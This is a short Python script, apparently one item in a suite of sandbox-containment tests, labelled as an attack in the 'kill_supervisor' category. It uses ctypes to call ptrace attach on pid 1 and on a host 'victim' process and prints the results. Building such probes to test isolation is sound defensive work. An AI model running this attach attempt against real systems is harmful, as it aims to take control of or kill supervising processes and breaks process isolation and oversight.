# attack: ptrace_init
# category: kill_supervisor
# kind: ctypes
# describe: ptrace-attach to pid 1 and the host victim through libc
import json
T = json.load(open("target.json"))

import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, T["victim_pid"]):
    r = libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
    print(pid, r, ctypes.get_errno())
